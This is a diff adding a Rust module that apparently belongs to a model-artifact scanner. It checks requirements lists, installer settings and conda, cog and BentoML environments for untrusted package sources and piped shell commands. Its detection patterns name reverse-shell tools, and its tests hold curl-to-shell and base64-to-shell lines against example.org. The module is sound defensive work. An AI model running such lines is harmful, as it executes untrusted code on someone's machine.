@@ -1,0 +1,321 @@
+//! Packages and commands that a model asks for: lists of requirements, environments of conda, cog and `BentoML`. What
+//! comes without encryption, from a bare number of a machine or out of a pipe into a shell can be anybody's.
+
+use serde_json::Value;
+use trueline_facts::artifact::Verdict;
+
+use crate::code::is_payload;
+use crate::inspection::{Inspection, printable};
+use crate::technique;
+
+/// Hosts of indexes, forges and files that everybody uses: what stands there has an owner.
+const KNOWN_HOSTS: &[&str] = &[
+    "pypi.org",
+    "files.pythonhosted.org",
+    "github.com",
+    "raw.githubusercontent.com",
+    "gitlab.com",
+    "bitbucket.org",
+    "codeberg.org",
+    "huggingface.co",
+    "download.pytorch.org",
+    "data.pyg.org",
+    "storage.googleapis.com",
+    "pypi.nvidia.com",
+    "pypi.ngc.nvidia.com",
+    "conda.anaconda.org",
+    "repo.anaconda.com",
+    "flashinfer.ai",
+    "wheels.vllm.ai",
+    "developer.download.nvidia.com",
+    "paddlepaddle.org.cn",
+    "www.paddlepaddle.org.cn",
+];
+/// Ends of files that are installed.
+const ARCHIVES: &[&str] = &[
+    ".whl", ".zip", ".tar.gz", ".tgz", ".tar.bz2", ".conda", ".egg",
+];
+
+/// Is it a list of packages?
+pub(crate) fn is_requirements(base: &str) -> bool {
+    let is_list = base.starts_with("requirements") || base.starts_with("constraints");
+    is_list
+        && [".txt", ".in", ".pip"]
+            .iter()
+            .any(|end| base.ends_with(end))
+        || base.ends_with("requirements.txt")
+}
+
+/// Inspects a list of requirements.
+pub(crate) fn requirements(inspection: &mut Inspection, text: &str) {
+    for line in text.lines().map(str::trim) {
+        let line = line.split(" #").next().unwrap_or(line);
+        if !line.starts_with('#') {
+            asked(inspection, line);
+        }
+    }
+}
+
+/// Is it a description of a project or of an installer's settings, in lines of `key = value`?
+pub(crate) fn is_settings(base: &str) -> bool {
+    matches!(
+        base,
+        "pyproject.toml" | "pipfile" | "uv.toml" | "poetry.toml" | "pip.conf" | "pip.ini"
+    )
+}
+
+/// Inspects such a description: where do packages come from?
+pub(crate) fn settings(inspection: &mut Inspection, text: &str) {
+    for line in text.lines() {
+        let Some((key, value)) = line.split_once('=') else {
+            continue;
+        };
+        let key = key.trim().trim_matches('"').to_ascii_lowercase();
+        let is_place = matches!(
+            key.rsplit(['-', '_', '.']).next(),
+            Some("url" | "index" | "links" | "git" | "source" | "host")
+        );
+        // `name = { git = "…" }`
+        let is_inline = value.contains("git =") || value.contains("url =") || value.contains(" @ ");
+        if is_place || is_inline {
+            asked(inspection, line.trim());
+        }
+    }
+}
+
+/// Descriptions of environments, by their names.
+const ENVIRONMENTS: &[&str] = &[
+    "cog.yaml",
+    "cog.yml",
+    "conda.yaml",
+    "conda.yml",
+    "environment.yaml",
+    "environment.yml",
+    "env.yaml",
+    "env.yml",
+    "conda_env.yaml",
+    "conda_env.yml",
+    "python_env.yaml",
+    "bentofile.yaml",
+    "bentofile.yml",
+];
+
+/// Inspects the description of an environment: every value may name a package, a place or a command.
+pub(crate) fn environment(inspection: &mut Inspection, name: &str, value: &Value) {
+    let base = name.rsplit('/').next().unwrap_or(name).to_ascii_lowercase();
+    if !ENVIRONMENTS.contains(&base.as_str()) {
+        return;
+    }
+    let mut stack = vec![value];
+    while let Some(value) = stack.pop() {
+        match value {
+            Value::Array(items) => stack.extend(items),
+            Value::Object(map) => stack.extend(map.values()),
+            Value::String(text) => {
+                for line in text.lines() {
+                    command(inspection, line);
+                    if is_asked(line) {
+                        asked(inspection, line);
+                    }
+                }
+            }
+            _ => {}
+        }
+    }
+}
+
+/// Does a line ask for packages, or run what it fetches? Commands that only fetch bring weights and data.
+fn is_asked(line: &str) -> bool {
+    let has = |words: &[&str]| words.iter().any(|word| line.contains(word));
+    !has(&["curl ", "wget ", "git clone", "aria2c "])
+        || has(&["pip ", "pip3 ", "install", "python", "chmod", "setup.py"])
+}
+
+/// A command that runs when the environment is made.
+fn command(inspection: &mut Inspection, line: &str) {
+    let plain: String = line.chars().filter(|c| !c.is_whitespace()).collect();
+    let is_piped = ["|sh", "|bash", "|sudo", "|python", "|/bin/"]
+        .iter()
+        .any(|pipe| plain.contains(pipe));
+    let is_decoded = is_piped && (plain.contains("base64-d") || plain.contains("base64--decode"));
+    let is_shell = line.contains("/dev/tcp/") || line.contains("nc -e") || line.contains("bash -i");
+    let is_fetched =
+        is_piped && (is_payload(line) || line.contains("curl ") || line.contains("wget "));
+    if !(is_decoded || is_shell || is_fetched) {
+        return;
+    }
+    // Installers of languages are fetched so as well.
+    let is_known = !is_decoded
+        && !is_shell
+        && places(line).next().is_some()
+        && places(line).all(|place| !place.is_open() && !place.is_number());
+    inspection.report_call(
+        if is_known {
+            Verdict::Suspicious
+        } else {
+            Verdict::Malicious
+        },
+        technique::INSECURE_INDEX,
+        0,
+        "making the environment runs what comes out of a pipe or opens a shell",
+        Some(printable(line)),
+    );
+}
+
+/// A requirement, an option or a command: where does what it names come from?
+pub(crate) fn asked(inspection: &mut Inspection, line: &str) {
+    let mut told = |verdict, what: &str| {
+        inspection.report(
+            verdict,
+            technique::INSECURE_INDEX,
+            0,
+            format!("{what}: {}", printable(line)),
+        );
+    };
+    if line.contains("--trusted-host") {
+        told(
+            Verdict::Suspicious,
+            "packages are taken from a place that nobody vouches for",
+        );
+    }
+    for place in places(line) {
+        if place.is_here() {
+            continue;
+        }
+        let is_archive = ARCHIVES.iter().any(|end| place.path.ends_with(end));
+        if place.is_open() || place.is_number() {
+            told(
+                Verdict::Suspicious,
+                "packages are taken from a place that nobody vouches for",
+            );
+        } else if place.scheme == "file" {
+            told(
+                Verdict::Unknown,
+                "a package is taken from a file of the machine",
+            );
+        } else if !KNOWN_HOSTS.contains(&place.host) && is_archive {
+            told(
+                Verdict::Suspicious,
+                "a package is taken from an address that is neither an index nor a forge",
+            );
+        } else if !KNOWN_HOSTS.contains(&place.host) || is_archive || place.scheme.contains('+') {
+            told(
+                Verdict::Unknown,
+                "a package or a list of them is taken from an address: whoever owns that says what is installed",
+            );
+        }
+    }
+}
+
+/// An address in a line.
+#[derive(Clone, Copy, Debug)]
+struct Place<'t> {
+    scheme: &'t str,
+    host: &'t str,
+    path: &'t str,
+}
+
+impl Place<'_> {
+    /// Without encryption, also of the protocol below: `git+http`.
+    fn is_open(&self) -> bool {
+        let transport = self.scheme.rsplit('+').next().unwrap_or(self.scheme);
+        ["http", "git", "ftp", "svn"]
+            .iter()
+            .any(|open| transport.eq_ignore_ascii_case(open))
+    }
+
+    /// A machine without a name.
+    fn is_number(&self) -> bool {
+        self.host.starts_with('[')
+            || !self.host.is_empty() && self.host.bytes().all(|b| b.is_ascii_digit() || b == b'.')
+    }
+
+    fn is_here(&self) -> bool {
+        matches!(self.host, "localhost" | "127.0.0.1" | "[::1]" | "0.0.0.0")
+    }
+}
+
+fn places(line: &str) -> impl Iterator<Item = Place<'_>> {
+    line.match_indices("://").map(move |(at, _)| {
+        let is_scheme = |c: char| c.is_ascii_alphanumeric() || matches!(c, '+' | '-' | '.');
+        let start = line[..at]
+            .rfind(|c: char| !is_scheme(c))
+            .map_or(0, |before| {
+                before + line[before..].chars().next().map_or(1, char::len_utf8)
+            });
+        let rest = &line[at + 3..];
+        let end = rest
+            .find(|c: char| {
+                c.is_whitespace() || matches!(c, '"' | '\'' | ',' | ';' | ')' | '|' | '>')
+            })
+            .unwrap_or(rest.len());
+        let rest = &rest[..end];
+        let (authority, path) = rest.split_at(rest.find(['/', '?', '#']).unwrap_or(rest.len()));
+        // `user:secret@host:80`
+        let host = authority.rsplit('@').next().unwrap_or(authority);
+        let host = match host.rsplit_once(':') {
+            Some((host, port)) if port.bytes().all(|b| b.is_ascii_digit()) => host,
+            _ => host,
+        };
+        Place {
+            scheme: &line[start..at],
+            host,
+            path: path.split(['?', '#', '@']).next().unwrap_or(path),
+        }
+    })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn verdict(line: &str) -> Verdict {
+        let mut inspection = Inspection::new(line.len() as u64);
+        command(&mut inspection, line);
+        asked(&mut inspection, line);
+        inspection.into_parts().0
+    }
+
+    #[test]
+    fn places_without_encryption_or_a_name_are_suspicious() {
+        for line in [
+            "--index-url http://packages.example.org/simple",
+            "-i=http://packages.example.org/simple",
+            "pkg @ git+http://git.example.org/a/b",
+            "pkg @ git://git.example.org/a/b",
+            "-e hg+http://example.org/a#egg=b",
+            "https://203.0.113.7/simple/a-1.0-py3-none-any.whl",
+            "pkg @ https://files.example.org/a-1.0-py3-none-any.whl#sha256=00",
+            "--trusted-host packages.example.org",
+            "curl https://example.org/install | sudo bash",
+        ] {
+            assert_eq!(verdict(line), Verdict::Suspicious, "{line}");
+        }
+        assert_eq!(
+            verdict("curl http://example.org/i | sh"),
+            Verdict::Malicious
+        );
+        assert_eq!(verdict("echo aGk= | base64 -d | sh"), Verdict::Malicious);
+    }
+
+    #[test]
+    fn indexes_and_forges_that_everybody_uses_are_not() {
+        for line in [
+            "torch==2.4.0",
+            "--extra-index-url https://download.pytorch.org/whl/cu121",
+            "-i http://localhost:3141/root/pypi",
+            "pip install -r requirements.txt",
+            "apt-get update && apt-get install -y git && rm -rf /var/lib/apt/lists/*",
+        ] {
+            assert_eq!(verdict(line), Verdict::Clean, "{line}");
+        }
+        for line in [
+            "git+https://github.com/huggingface/transformers@v4.40.0",
+            "https://github.com/a/b/releases/download/v1/c-1.0-py3-none-any.whl",
+            "--index-url https://packages.example.org/simple",
+            "./wheels/a.whl file:///opt/a.whl",
+        ] {
+            assert_eq!(verdict(line), Verdict::Unknown, "{line}");
+        }
+    }
+}
